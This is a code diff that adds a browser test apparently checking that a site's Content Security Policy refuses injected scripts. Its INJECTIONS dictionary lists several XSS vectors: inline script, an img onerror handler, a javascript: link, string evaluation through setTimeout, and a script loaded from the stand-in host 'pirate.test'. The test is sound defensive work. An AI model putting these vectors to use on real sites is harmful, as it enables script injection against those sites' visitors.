@@ -55,6 +55,33 @@ def visite(navigateur, tmp_path_factory, projet):
         yield visite
 
 
+INJECTIONS = {
+    "script": "s => document.body.appendChild(document.createElement('script')).textContent = s",
+    "attribut": """s => { const i = document.createElement('img'); i.setAttribute('onerror', s);
+      document.body.appendChild(i).src = '/absente.png'; }""",
+    "adresse": """s => { const a = document.createElement('a'); a.href = 'javascript:' + s;
+      document.body.appendChild(a).click(); }""",
+    "eval": "s => { setTimeout(s, 0); }",
+    "ailleurs": """() => document.body.appendChild(document.createElement('script')).src =
+      'http://pirate.test/x.js'""",
+}
+"""Ways to make a page run a script that is not its own."""
+
+REFUS = """() => { window.refus = new Promise(pret =>
+  document.addEventListener('securitypolicyviolation', e => pret(e.effectiveDirective), {once: true})); }"""
+
+
+@pytest.mark.parametrize("voie", INJECTIONS)
+def test_an_injected_script_is_refused_by_the_page(navigateur, serveur, voie):
+    with visiter(navigateur, serveur) as protegee:
+        page = protegee.aller("/accessibilite")
+        page.get_by_role("heading", name="Accessibilité").wait_for()
+        page.evaluate(REFUS)
+        page.evaluate(INJECTIONS[voie], "window.pirate = 1")
+        assert page.evaluate("window.refus").startswith("script-src")
+        assert page.evaluate("window.pirate === undefined")
+
+
 def bulle(visite, latitude, longitude):
     """The tooltip of a place of the map."""
     visite.page.mouse.move(*visite.pixel(latitude, longitude))
